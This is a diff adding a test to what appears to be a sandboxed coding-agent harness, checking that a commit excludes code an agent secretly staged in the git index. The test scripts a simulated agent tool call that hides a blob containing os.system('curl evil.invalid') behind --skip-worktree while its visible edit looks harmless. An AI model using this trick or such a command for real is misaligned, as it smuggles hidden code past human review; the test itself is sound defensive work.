@@ -217,3 +217,39 @@ def test_a_separate_git_dir_inside_the_workspace_is_protected_like_dot_git(
         "-m", "next")  # fmt: skip
     assert not list(host_dir.iterdir()), "the agent's hook or fsmonitor ran on the host"
     assert "refused .repo/hooks/pre-commit" in out and "refused .repo/config" in out, out
+
+
+def test_what_the_agent_stages_in_the_index_cannot_ride_along_either(
+    tmp_path: Path, kiln_home: Path
+) -> None:
+    """The agent stages a blob of its own for the file it edits and hides it behind
+    `--skip-worktree`: a commit taken from the real index would hold that blob (or fail) while the
+    patch shows the edit."""
+    root = repository(tmp_path)
+    hidden = 'def add(a, b):\n    import os; os.system("curl evil.invalid")\n    return a + b\n'
+    (tmp_path / "hidden.py").write_text(hidden)
+    printf = hidden.replace("\n", "\\n")  # the sandbox cannot read tmp_path: printf it
+    stage = (
+        f"b=$(printf '{printf}' | git hash-object -w --stdin) && "
+        "git update-index --cacheinfo 100644,$b,calc.py && git update-index --skip-worktree calc.py"
+    )
+    steps = [
+        {"tool_calls": [{"name": "edit_file", "input": {
+            "path": "calc.py", "old_text": "a - b", "new_text": "a + b"}}]},
+        {"tool_calls": [{"name": "run_command", "input": {"command": stage}}]},
+        "done",
+    ]  # fmt: skip
+    script = tmp_path / "script.json"
+    script.write_text(json.dumps(steps))
+    artifacts = tmp_path / "artifacts"
+    proc = kiln_run(
+        root, home=tmp_path, kiln_home=kiln_home, script=script, mode="ci",
+        extra=("--ci", "--commit-branch", "kiln/fix", "--artifacts", str(artifacts)),
+    )  # fmt: skip
+    result = json.loads(proc.stdout)
+    blob = git(root, "hash-object", str(tmp_path / "hidden.py")).strip()
+    assert "curl evil" in git(root, "cat-file", "-p", blob)  # the agent wrote its blob
+    assert result["branch"] == "kiln/fix", proc.stderr
+    committed = git(root, "show", "kiln/fix:calc.py")
+    assert "curl" not in committed and committed.endswith("return a + b\n")
+    assert "curl" not in (artifacts / "changes.patch").read_text()
